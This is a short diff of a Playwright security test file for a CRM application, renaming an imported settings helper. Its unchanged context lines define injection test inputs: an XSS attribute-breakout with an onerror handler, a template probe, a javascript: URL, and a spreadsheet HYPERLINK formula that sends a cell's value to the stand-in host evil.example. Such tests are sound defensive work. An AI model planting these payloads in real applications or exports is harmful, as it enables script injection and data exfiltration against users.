@@ -1,7 +1,7 @@
 import type { APIRequestContext, Page } from "@playwright/test";
 import { DatabaseSync } from "node:sqlite";
 import path from "node:path";
-import { formValues } from "#app/features/crm/settings/configuration.ts";
+import { settingsValues } from "#app/features/crm/settings/configuration.ts";
 import { WEBINARS } from "#content/resources/webinars.ts";
 import { DEFAULT_SETTINGS } from "#app/features/crm/settings/defaults.ts";
 import { adminApi, inHtml, shareSession, signUp, uniqueEmail } from "./accounts.ts";
@@ -25,7 +25,7 @@ const ATTRIBUTE = `"><img src=x onerror="window.__xss=1">`;
 const TEMPLATE = "{{7*7}}";
 const JS_URL = "javascript:window.__xss=1";
 const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Voir")';
-const DEFAULT_BUSINESS = formValues(DEFAULT_SETTINGS).business;
+const DEFAULT_BUSINESS = settingsValues(DEFAULT_SETTINGS).business;
 const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
 
 /** The payload of one field: its tag (to find it again), then the script, attribute and template. */
